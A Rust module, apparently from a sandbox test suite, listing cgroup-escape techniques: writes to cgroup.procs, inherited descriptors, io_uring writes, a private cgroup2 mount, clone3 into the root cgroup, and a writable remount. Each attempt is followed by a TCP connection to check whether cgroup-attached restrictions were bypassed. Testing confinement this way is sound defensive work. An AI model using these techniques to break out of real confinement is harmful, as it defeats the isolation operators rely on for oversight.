//! Leaving the cgroup, after which nothing attached to it counts.

use std::{os::fd::AsRawFd as _, path::Path};

use super::{Around, Attack, Handed, descriptors::inherited, tcp::tell, wire};
use crate::attack::{
    aim::Aim,
    call::{Done, Sock, Stop, c_path, call, of_io, owned, raw, write, write_file},
    process::{child, in_child},
    ring::Ring,
};

fn out(aim: &Aim<'_>) -> Done {
    tell(&Sock::tcp4()?, aim.to4(), aim)
}

/// Writes itself into a list of processes.
fn join(path: &Path, aim: &Aim<'_>) -> Done {
    write_file("write_procs", path, "0")?;
    out(aim)
}

/// Starts a process in the cgroup behind a descriptor.
fn clone_into(cgroup: i32, aim: &Aim<'_>) -> Done {
    const CLONE_INTO_CGROUP: u64 = 0x2_0000_0000;
    let mut arguments = [0_u64; 11];
    arguments[0] = CLONE_INTO_CGROUP;
    arguments[4] = u64::try_from(libc::SIGCHLD).unwrap_or_default();
    arguments[10] = u64::try_from(cgroup).unwrap_or_default();
    // SAFETY: without CLONE_VM it is a fork; this process has one thread.
    let made = call("clone3", || unsafe {
        libc::syscall(libc::SYS_clone3, arguments.as_ptr(), size_of_val(&arguments))
    })?;
    if made == 0 { child(|| out(aim)) } else { in_child(raw(made)) }
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("i-procs", "cgroup.procs of the uppermost cgroup", |aim| {
        join(&aim.brief.cgroups.join("cgroup.procs"), aim)
    })
    .root(),
    wire("i-threads", "cgroup.threads of the uppermost cgroup", |aim| {
        join(&aim.brief.cgroups.join("cgroup.threads"), aim)
    })
    .root(),
    wire("i-init-root", "cgroup.procs through the root directory of process 1", |aim| {
        let below = aim.brief.cgroups.strip_prefix("/").unwrap_or(&aim.brief.cgroups);
        join(&Path::new("/proc/1/root").join(below).join("cgroup.procs"), aim)
    })
    .root(),
    wire("i-inherited", "inherited descriptor of cgroup.procs", |aim| {
        write("write_procs", inherited(aim)?.as_raw_fd(), b"0")?;
        out(aim)
    })
    .around(Around::Inherited(Handed::Procs)),
    wire("i-inherited-ring", "inherited descriptor of cgroup.procs, written by a ring", |aim| {
        let file = inherited(aim)?;
        // Before anything is given up to the ring, whose writes are made in this process's name.
        Ring::new(false)?.write(file.as_raw_fd(), std::process::id().to_string().as_bytes())?;
        out(aim)
    })
    .around(Around::Inherited(Handed::Procs)),
    wire("i-ring", "cgroup.procs opened and written by a ring", |aim| {
        let mut ring = Ring::new(false)?;
        let file = ring.open(&aim.brief.cgroups.join("cgroup.procs"))?;
        ring.write(file.as_raw_fd(), std::process::id().to_string().as_bytes())?;
        out(aim)
    })
    .root(),
    wire("i-mount", "a mount of cgroup2 of its own", |aim| {
        let place = aim.path(&format!("mount-{}", aim.index));
        std::fs::create_dir(&place).map_err(of_io("mkdir"))?;
        // SAFETY: no pointers.
        call("unshare", || unsafe { libc::unshare(libc::CLONE_NEWNS) }.into())?;
        let text = c_path(&place);
        // SAFETY: the texts live through the calls.
        call("mount", || unsafe {
            let none = std::ptr::null();
            libc::mount(none, c"/".as_ptr(), none, libc::MS_REC | libc::MS_PRIVATE, none.cast());
            libc::mount(c"none".as_ptr(), text.as_ptr(), c"cgroup2".as_ptr(), 0, none.cast()).into()
        })?;
        join(&place.join("cgroup.procs"), aim)
    })
    .root(),
    wire("i-clone", "clone3 into the uppermost cgroup", |aim| {
        let path = c_path(&aim.brief.cgroups);
        // SAFETY: the path lives through the call.
        let cgroup =
            call("open", || unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) }.into())?;
        clone_into(owned(cgroup).as_raw_fd(), aim)
    })
    .root(),
    wire("i-clone-inherited", "clone3 into an inherited cgroup", |aim| {
        clone_into(inherited(aim)?.as_raw_fd(), aim)
    })
    .around(Around::Inherited(Handed::CgroupDirectory))
    .root(),
    wire("i-remount", "cgroups made writable again", |aim| {
        let path = c_path(&aim.brief.cgroups);
        // SAFETY: the texts live through the call.
        call("remount", || unsafe {
            let none = std::ptr::null();
            let flags = libc::MS_REMOUNT | libc::MS_BIND;
            libc::mount(none, path.as_ptr(), none, flags, none.cast()).into()
        })
        .map_err(|stop| Stop { at: "remount", ..stop })?;
        join(&aim.brief.cgroups.join("cgroup.procs"), aim)
    })
    .root(),
];
